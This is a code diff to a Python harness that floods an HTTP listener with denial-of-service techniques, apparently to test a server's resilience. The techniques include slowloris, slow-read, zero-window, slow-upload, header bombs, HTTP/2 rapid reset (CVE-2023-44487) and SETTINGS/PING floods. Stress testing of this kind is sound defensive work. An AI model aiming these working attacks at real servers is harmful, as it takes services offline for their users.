@@ -1,22 +1,31 @@
 """What an attacker does to a listener, in a process of its own, so that it does not slow the clients that are measured.
 
 Run with the kind of attack, `host:port`, and how many connections. Says `ready` once all is under way, goes on until its input is
-closed, and then says in JSON what came of it. `sink` is no attack but a listener that takes anything: what the attack itself costs
-the machine shows there.
+closed, and then says in JSON what came of it: connections `opened`, `ended` and `refused`, and the `peak` of those open at once.
+`sink`, with how many connections, is no attack but a listener that takes anything: what the attack itself costs the machine shows
+there. Either says in place of its first word what keeps it from starting.
 """
 
 import asyncio
 import json
 import os
+import resource
+import socket
 import ssl
 import struct
 import sys
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-HALF_HEAD = b"GET /public/x HTTP/1.1\r\nHost: a\r\nX-Slow: "
-WHOLE = b"GET /public/x HTTP/1.1\r\nHost: a\r\n\r\n"
-# A header block in static and literal fields only: :method GET, :scheme http, :path /public/x, :authority a.
-HEADERS = bytes([0x82, 0x86, 0x04, 9]) + b"/public/x" + bytes([0x01, 1]) + b"a"
+# Of its own, so that the application's record tells this from the requests of others.
+PATH = b"/public/attack"
+GET = b"GET " + PATH + b" HTTP/1.1\r\nHost: a\r\n"
+HALF_HEAD = GET + b"X-Slow: "
+WHOLE = GET + b"\r\n"
+# A header block in static and literal fields only: :method GET, :scheme http, :path, :authority a.
+HEADERS = bytes([0x82, 0x86, 0x04, len(PATH)]) + PATH + bytes([0x01, 1]) + b"a"
+# Kinds that keep as many connections as they are told; the others do much on a few.
+STAY_AWAY = ("idle", "silent", "reader", "window", "upload")
+HELD = ("head", "second", "hello", "preface", *STAY_AWAY)
 
 
 class Attack:
@@ -24,12 +33,12 @@ class Attack:
         self.kind, self.count = kind, count
         self.host, port = address.rsplit(":", 1)
         self.port = int(port)
-        self.tally = {"opened": 0, "ended": 0, "refused": 0}
-        self.open = set()
+        self.tally = {"opened": 0, "ended": 0, "refused": 0, "peak": 0}
+        self.open = 0
 
     async def run(self):
         one = getattr(self, self.kind)
-        workers = self.count if self.kind in ("head", "second", "hello", "preface", "idle", "silent") else 8
+        workers = self.count if self.kind in HELD else 8
         started = [asyncio.Event() for _ in range(workers)]
         self.tasks = [asyncio.create_task(self.again_and_again(one, event)) for event in started]
         for event in started:
@@ -43,25 +52,38 @@ class Attack:
     async def again_and_again(self, one, event):
         while True:
             try:
-                reader, writer = await asyncio.open_connection(self.host, self.port)
+                reader, writer = await self.connect()
             except OSError:
-                self.tally["refused"] += 1
                 event.set()
                 await asyncio.sleep(0.05)
                 continue
-            self.tally["opened"] += 1
             try:
                 await one(reader, writer, event)
             except (OSError, EOFError, asyncio.IncompleteReadError):
                 pass
             finally:
-                self.tally["ended"] += 1
+                self.leave(writer)
                 event.set()
-                writer.close()
-            if self.kind in ("idle", "silent"):
+            if self.kind in STAY_AWAY:
                 # Who was shown the door stays away: what is left open is what is counted.
                 await asyncio.Event().wait()
             await asyncio.sleep(0.05)
+
+    async def connect(self):
+        try:
+            connection = await asyncio.open_connection(self.host, self.port)
+        except OSError:
+            self.tally["refused"] += 1
+            raise
+        self.tally["opened"] += 1
+        self.open += 1
+        self.tally["peak"] = max(self.tally["peak"], self.open)
+        return connection
+
+    def leave(self, writer):
+        self.tally["ended"] += 1
+        self.open -= 1
+        writer.close()
 
     async def until_closed(self, reader, writer, event, dribble=b""):
         event.set()
@@ -107,13 +129,32 @@ class Attack:
         await reader.readuntil(b"\r\n\r\n")
         await self.until_closed(reader, writer, event)
 
+    async def reader(self, reader, writer, event):
+        """Asks for much, and reads none of it."""
+        writer.transport.pause_reading()
+        # Set by hand it does not grow, and what is not read stays with the server.
+        writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+        writer.write(WHOLE)
+        event.set()
+        await asyncio.Event().wait()
+
+    async def window(self, reader, writer, event):
+        """The same over HTTP/2, by an initial window of nothing."""
+        writer.write(PREFACE + frame(4, 0, 0, struct.pack(">HI", 4, 0)) + frame(1, 0x5, 1, HEADERS))
+        await self.until_closed(reader, writer, event)
+
+    async def upload(self, reader, writer, event):
+        """Announces a body, and sends next to nothing of it."""
+        writer.write(b"POST" + GET[3:] + b"Content-Length: 1000000\r\n\r\n" + b"u" * 10)
+        await self.until_closed(reader, writer, event)
+
     async def bomb(self, reader, writer, event):
         """As many header fields as will go."""
         event.set()
-        writer.write(b"GET /public/x HTTP/1.1\r\nHost: a\r\n")
+        writer.write(GET)
         for _ in range(1024):
             writer.write(b"X-Bomb: " + b"b" * 1000 + b"\r\n")
-            await writer.drain()
+            await sent(writer)
             if reader.at_eof():
                 return
         await reader.read()
@@ -121,10 +162,10 @@ class Attack:
     async def many(self, reader, writer, event):
         """A million header fields of next to nothing."""
         event.set()
-        writer.write(b"GET /public/x HTTP/1.1\r\nHost: a\r\n")
+        writer.write(GET)
         for _ in range(1024):
             writer.write(b"a:\r\n" * 256)
-            await writer.drain()
+            await sent(writer)
             if reader.at_eof():
                 return
         await reader.read()
@@ -133,9 +174,8 @@ class Attack:
         """Connections that are closed as soon as they are there, without the usual pause."""
         event.set()
         for _ in range(50):
-            _, other = await asyncio.open_connection(self.host, self.port)
-            self.tally["opened"] += 1
-            other.close()
+            _, other = await self.connect()
+            self.leave(other)
 
     async def reset(self, reader, writer, event):
         """Requests that are taken back at once (CVE-2023-44487)."""
@@ -150,7 +190,7 @@ class Attack:
                 stream += 2
             writer.write(pairs)
             self.tally["resets"] = self.tally.get("resets", 0) + 50
-            await writer.drain()
+            await sent(writer)
             if reader.at_eof():
                 return
 
@@ -162,7 +202,7 @@ class Attack:
         while not reader.at_eof():
             # A literal field without indexing, again and again.
             writer.write(frame(9, 0, 1, b"\x00\x01x\x7f\x81\x07" + b"y" * 1024) * 4)
-            await writer.drain()
+            await sent(writer)
 
     async def settings(self, reader, writer, event):
         """SETTINGS and PING, each of which wants an answer."""
@@ -171,7 +211,7 @@ class Attack:
         asyncio.get_running_loop().create_task(self.swallow(reader))
         while not reader.at_eof():
             writer.write((frame(4, 0, 0, b"") + frame(6, 0, 0, b"pingpong")) * 50)
-            await writer.drain()
+            await sent(writer)
 
     async def swallow(self, reader):
         try:
@@ -179,6 +219,12 @@ class Attack:
                 pass
         except OSError:
             pass
+
+
+async def sent(writer):
+    """`drain` alone lets nobody else run as long as the kernel takes all: not the other attackers, and not who waits for `ready`."""
+    await writer.drain()
+    await asyncio.sleep(0)
 
 
 def frame(kind, flags, stream, payload):
@@ -199,7 +245,18 @@ async def sink():
     os._exit(0)
 
 
+def need_descriptors(count):
+    """As many open files as are allowed, or the end with a word why."""
+    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+    # What the interpreter and the loop have open themselves.
+    if hard != resource.RLIM_INFINITY and hard < count + 64:
+        print(f"{count} connections need more than the {hard} open files that are allowed: raise the limit (ulimit -Hn)", flush=True)
+        sys.exit(1)
+
+
 if __name__ == "__main__":
+    need_descriptors(int(sys.argv[-1]))
     if sys.argv[1] == "sink":
         asyncio.run(sink())
     asyncio.run(Attack(sys.argv[1], sys.argv[2], int(sys.argv[3])).run())
